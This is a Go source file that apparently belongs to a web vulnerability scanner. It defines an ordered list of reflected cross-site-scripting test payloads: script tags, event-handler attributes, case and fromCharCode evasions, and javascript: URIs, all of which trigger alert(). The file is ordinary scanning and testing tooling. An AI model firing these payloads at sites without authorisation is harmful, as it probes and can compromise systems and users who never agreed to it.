// Package payloads holds the attack vector catalog used by the prober.
package payloads

// XSSVectors is the ordered set of reflected-XSS test vectors. Order matters:
// vectors are tried front to back and the first one reflected wins for a
// parameter, so the cheap classics come first.
var XSSVectors = []string{
	// Basic XSS
	"<script>alert('XSS')</script>",
	"<img src=x onerror=alert('XSS')>",
	"<svg/onload=alert('XSS')>",

	// Attribute-based XSS
	"' onmouseover='alert(1)",
	"' onclick='alert(1)",

	// Evasion techniques
	"<scRipt>alert('XSS')</scRipt>",
	"<script>alert(String.fromCharCode(88,83,83))</script>",
	"<script>alert('XSS')</script>",
	"<script>alert(\"XSS\")</script>",

	// Specialized payloads
	"<iframe src=\"javascript:alert('XSS')\">",
	"<body onload=alert('XSS')>",
	"<a href=\"javascript:alert('XSS')\">click</a>",
	"<img src=\"javascript:alert('XSS')\">",
	"<div style=\"background-image:url(javascript:alert('XSS'))\">",
	"<input type=\"text\" value=\"\" onfocus=alert('XSS') autofocus>",
}
